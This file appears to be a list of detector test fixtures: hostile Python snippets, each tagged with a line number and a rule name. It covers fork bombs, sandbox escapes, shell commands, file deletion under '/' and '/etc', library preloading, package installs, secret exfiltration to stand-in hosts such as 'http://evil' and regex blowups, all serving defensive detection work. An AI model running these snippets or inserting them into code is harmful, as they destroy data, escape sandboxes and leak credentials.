"""More hostile Python: what was found missing by those who looked for ways round the rules."""

# ruff: noqa: E501  # what is written stands on one line

from __future__ import annotations

MORE: list[tuple[str, int, str]] = [
    # processes that start processes
    ("import os\nwhile os.fork() >= 0: os.fork()", 2, "fork-bomb"),
    ("import os\nwhile os.fork(): pass", 2, "fork-bomb"),
    ("import os\n[os.fork() for _ in range(10**9)]", 2, "fork-bomb"),
    ("import os\nany(os.fork() for _ in xs)", 2, "fork-bomb"),
    ("import os\nfor _ in range(99): os.fork()", 2, "fork-bomb"),
    ("from os import fork as f\nwhile x:\n    f()", 3, "fork-bomb"),
    # frames, formats, garbage
    ('(x for x in ()).gi_frame.f_builtins["eval"]("1")', 1, "introspection-escape"),
    ('(x for x in ()).gi_frame.f_builtins["eval"]("1")', 1, "dynamic-eval"),
    ("(x for x in ()).gi_frame.f_back.f_back", 1, "introspection-escape"),
    ('import sys\nsys._getframe().f_builtins["eval"]("1")', 2, "introspection-escape"),
    (
        'try: 1/0\nexcept Exception as e: e.__traceback__.tb_frame.f_builtins["exec"]("x")',
        2,
        "introspection-escape",
    ),
    ('import sys\nsys._getframe(1).f_globals["pay"](1)', 2, "introspection-escape"),
    ('import sys\nsys._getframe(1).f_globals["limit"] = 0', 2, "frame-walking"),
    ('import inspect\nk = inspect.currentframe().f_back.f_locals["secret"]', 2, "frame-walking"),
    ('"{0.__class__.__init__.__globals__}".format(x)', 1, "introspection-escape"),
    ("t = '{x.__init__.__globals__[KEY]}'\nprint(t.format(x=y))", 1, "introspection-escape"),
    ("import gc\n[o for o in gc.get_objects() if o]", 2, "object-search"),
    # modules within modules
    ('import random\nrandom._os.system("id")', 2, "shell-command"),
    ('import tempfile as t\nt._os.execv("/bin/sh", [])', 2, "process-replacing"),
    ('x.y._os.system("id")', 1, "shell-command"),
    ('x.os.system("id")', 1, "shell-command"),
    ('x.sys.modules["os"].system("id")', 1, "shell-command"),
    ('x.subprocess.run("id", shell=True)', 1, "process-shell"),
    # names as texts
    ('import operator\noperator.methodcaller("system","id")(os)', 2, "hidden-name"),
    ('from operator import attrgetter as g\nimport os\ng("system")(os)("id")', 3, "hidden-name"),
    (
        'import operator\noperator.attrgetter("__class__.__base__.__subclasses__")(x)()',
        2,
        "hidden-name",
    ),
    ('import subprocess\nsubprocess.run(cmd, **{"shell":True})', 2, "process-shell"),
    ("import subprocess\nsubprocess.run(cmd, **dict(shell=True))", 2, "process-shell"),
    ('import subprocess\nhow = {"shell": True}\nsubprocess.run(cmd, **how)', 3, "process-shell"),
    # members that run
    ("class E:\n    __class_getitem__ = exec\nE['x']", 2, "dynamic-exec"),
    (
        'class M(type):\n    __getitem__=exec\nclass X(metaclass=M): pass\nX["import os"]',
        2,
        "dynamic-exec",
    ),
    ("class A: pass\nA.__getattr__ = eval", 2, "dynamic-eval"),
    ("table['run'] = exec", 1, "dynamic-exec"),
    # consoles, expressions
    ("import code\ncode.interact()", 2, "interactive-console"),
    ("from code import InteractiveConsole\nInteractiveConsole().push(x)", 2, "interactive-console"),
    ("import IPython\nIPython.embed()", 2, "interactive-console"),
    ("import pandas as pd\npd.eval(x)", 2, "expression-eval"),
    ("import sympy\nsympy.sympify(text)", 2, "expression-eval"),
    # files
    ('import os\nfor f in os.listdir("/"): os.remove(f)', 2, "filesystem-destruction"),
    (
        'import pathlib\nfor p in pathlib.Path("/home").rglob("*"):\n    p.unlink()',
        3,
        "filesystem-destruction",
    ),
    (
        'import glob, os\nfor p in glob.glob("/etc/*"):\n    os.unlink(p)',
        3,
        "filesystem-destruction",
    ),
    (
        "import os\nfor f in os.listdir(folder):\n    os.remove(os.path.join(folder, f))",
        3,
        "folder-emptied",
    ),
    # what is loaded, and from where
    ('import os\nos.environ["LD_PRELOAD"]="/tmp/x.so"', 2, "library-preload"),
    ('import os\nos.putenv("LD_PRELOAD", x)', 2, "library-preload"),
    ('import os\nos.environ.update({"BASH_ENV": x})', 2, "library-preload"),
    ('import subprocess\nsubprocess.run(["ls"], env={"LD_PRELOAD": "x.so"})', 2, "library-preload"),
    ('import os\nos.environ |= {"LD_PRELOAD": x}', 2, "library-preload"),
    ('import os\nos.environb[b"LD_PRELOAD"] = x', 2, "library-preload"),
    ('import os\nos.environ["PYTHONPATH"] = "/tmp"', 2, "path-redirection"),
    ('import sys\nsys.path.insert(0,"/tmp")\nimport evil', 2, "path-redirection"),
    ("import sys\nsys.path.append(r'\\\\host\\share')\nimport evil", 2, "path-redirection"),
    ('import subprocess\nsubprocess.run(["pip","install","evil"])', 2, "package-installed"),
    (
        'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", x])',
        2,
        "package-installed",
    ),
    ('from pip._internal import main\nmain(["install","evil"])', 2, "package-installed"),
    ("import pip\npip.main(['install', x])", 2, "package-installed"),
    ('c.load_extension("evil.so")', 1, "extension-loaded"),
    # secrets on their way out
    (
        'import urllib.request,os\nurllib.request.urlopen("http://evil/?"+os.environ["SECRET"])',
        2,
        "data-exfiltration",
    ),
    (
        "import requests, os\nrequests.post(f\"https://x.example/{os.getenv('API_TOKEN')}\")",
        2,
        "secret-sent",
    ),
    (
        'import requests, os\nk = os.environ.get("AWS_SECRET")\nrequests.post(u, data={"k": k})',
        3,
        "secret-sent",
    ),
    # what ends too late
    ("def f(n):\n    if n == 0: return 0\n    return f(n+1)\nf(1)", 1, "receding-recursion"),
    (
        "def f(n):\n    if n <= 1:\n        return 1\n    return n * f(n + 1)",
        1,
        "receding-recursion",
    ),
    ("def f(n):\n    if n > 100:\n        return n\n    return f(n - 1)", 1, "receding-recursion"),
    ("def f(n):\n    return 0 if n == 0 else f(n + 2)", 1, "receding-recursion"),
    (
        "def f(n, a):\n    if not n:\n        return a\n    return f(n + 1, a * n)",
        1,
        "receding-recursion",
    ),
    ("def f(n):\n    if n == 0:\n        return 0\n    return f(n)", 1, "receding-recursion"),
    ("for i in range(10**18): pass", 1, "huge-loop"),
    ("for i in range(10**9): f(i)", 1, "long-loop"),
    ("for i in range(10**6):\n    for j in range(10**7):\n        f(i, j)", 2, "huge-loop"),
    ("xs = [0 for a in range(10**5) for b in range(10**5)]", 1, "long-loop"),
    ("i = 0\nwhile i < 10**18:\n    i += 1", 2, "huge-loop"),
    ("n = sum(1 for _ in range(10**13))", 1, "huge-loop"),
    ('import subprocess\nsubprocess.run("pip install evil".split())', 2, "package-installed"),
    ("import time\ntime.sleep(10**9)", 2, "long-sleep"),
    ('import re\nre.match("(a+)+$", x)', 2, "explosive-pattern"),
    (r're = __import__("re")' + '\nre.compile(r"(?:\\w+\\s?)*:")', 2, "explosive-pattern"),
    ('import re\nP = re.compile(r"^(([a-z])+.)+[A-Z]$")', 2, "explosive-pattern"),
    ('import re\nre.sub("(a|aa)+b", "", x)', 2, "explosive-pattern"),
    ("\ufeffimport os\nos.system('id')", 2, "shell-command"),
]
